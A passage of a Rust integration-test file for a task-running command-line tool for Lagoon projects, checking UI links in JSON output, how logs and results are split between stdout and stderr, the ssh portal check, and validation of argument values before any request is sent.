        "--ui-url",
        "https://ui.example.com",
    ];
    env.home
        .run(env.home.command(&add).stdin(env.token()))
        .succeeds();
    let steps = [log("why\n"), Step::Status(Status::Failed)];
    env.script("Say hello", &steps);
    let place = ["-l", "demo", "-o", "json"];
    let line = [&["invoke", "Say hello", "--wait"], &MAIN[..], &place].concat();
    for line in [&line[..], &["-l", "demo", "-o", "json", "wait", "1"]] {
        let output = env.home.tasks(line).ends_with(3);
        let run = output.json();
        let page = format!(
            "https://ui.example.com/projects/lagoon-demo/lagoon-demo-main/tasks/{}",
            run["taskName"].as_str().unwrap()
        );
        assert_eq!(
            (&run["url"], &output.json_error()["runs"][0]["url"]),
            (&json!(page), &json!(page))
        );
    }
    // Where no UI is known, neither has one.
    let output = env.tasks(&["wait", "1", "-o", "json"]).ends_with(3);
    assert_eq!(output.json_error()["runs"][0].get("url"), None);
}

#[test]
fn the_result_starts_on_a_new_line_after_the_log() {
    let env = TestEnv::new();
    let steps = [
        Step::Status(Status::Running),
        log("abc"),
        Step::Status(Status::Complete),
    ];
    env.script("Say hello", &steps);
    let output = invoke(&env, &["Say hello", "--follow"]).succeeds();
    assert_eq!(output.stdout, "abc", "a pipe gets the log as it is");
    let output = invoke(&env, &["Say hello", "--follow", "-o", "json"]).succeeds();
    assert!(output.stderr.contains("abc\n"), "{output}");
    let line = [&["invoke", "Say hello", "--follow"], &MAIN[..]].concat();
    let mut terminal = env.terminal(&line);
    assert_eq!(terminal.finish(), 0);
    assert!(
        terminal.screen().lines().any(|l| l == "abc"),
        "{}",
        terminal.screen()
    );
}

#[test]
fn live_always_is_checked_before_the_start() {
    let env = TestEnv::new();
    let output = invoke(&env, &["Say hello", "--follow", "--live", "always"]).ends_with(1);
    assert!(output.stderr.contains("has no ssh portal"), "{output}");
    assert_eq!(started(&env), 0);
}

#[test]
fn a_followed_log_is_alone_on_stdout() {
    let env = TestEnv::new();
    env.script("Say hello", &[log("one\n"), Step::Status(Status::Complete)]);
    let line = [&["invoke", "Say hello", "--follow"], &MAIN[..]].concat();
    let command = env.command(&line).env("TASKS_OUTPUT", "jsonl");
    assert_eq!(env.run(command).succeeds().stdout, "one\n");
}

#[test]
fn with_follow_the_result_on_stderr_has_terminal_format_if_stderr_is_a_terminal() {
    let env = TestEnv::new();
    let line = "tasks invoke 'Say hello' -p lagoon-demo -e main --follow";
    for (redirected, is_terminal) in [("> log", true), ("> log 2> result", false)] {
        env.script("Say hello", &[log("one\n"), Step::Status(Status::Complete)]);
        let mut terminal = Terminal::start(&env.shell(&format!("{line} {redirected}")));
        assert_eq!(terminal.finish(), 0);
        let read = |name: &str| std::fs::read_to_string(env.home.path("work").join(name));
        assert_eq!(read("log").unwrap(), "one\n");
        let result = if is_terminal {
            terminal.screen()
        } else {
            assert_eq!(terminal.screen(), "");
            read("result").unwrap()
        };
        assert_eq!(result.contains("✓ completed"), is_terminal, "{result}");
        assert_eq!(
            result.contains("\tcomplete\tcompleted\t"),
            !is_terminal,
            "{result}"
        );
    }
}

#[test]
fn ranges_of_unknown_types_are_enforced_before_any_request() {
    let env = TestEnv::new();
    let newer = newer_lagoon(&env);
    let invoke = |value: &str| {
        let text = format!("TEXT={value}");
        let line = [
            "invoke",
            "Try arguments",
            "-p",
            "lagoon-demo",
            "-e",
            "main",
            "--yes",
        ];
        let values = ["-a", "FROM=main", "-a", &text, "-o", "json"];
        let command = env.command(&[&line[..], &values].concat());
        env.run(command.env("TASKS_API", newer.url("/graphql")))
    };
    for wrong in ["solr", "CLI", ""] {
        let output = invoke(wrong);
        assert_eq!((output.code, started(&env)), (2, 0), "{output}");
    }
    assert!(invoke("solr").stderr.contains("cli, nginx"));
    invoke("nginx").succeeds();
    assert_eq!(started(&env), 1);
}
